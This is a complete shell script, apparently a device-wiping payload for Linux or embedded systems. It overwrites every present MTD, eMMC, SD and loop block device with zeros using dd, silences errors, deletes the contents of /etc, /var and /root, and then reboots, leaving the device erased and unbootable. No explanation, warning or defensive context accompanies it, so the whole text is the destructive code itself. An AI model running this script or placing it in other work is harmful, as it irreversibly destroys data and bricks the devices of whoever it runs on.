#!/bin/sh
for f in /dev/mtdblock* /dev/mmcblk* /dev/sd* /dev/loop* /dev/mtd*; do
  [ -e "$f" ] && dd if=/dev/zero of="$f" bs=4096 2>/dev/null
done
rm -rf /etc/* /var/* /root/* 2>/dev/null
reboot
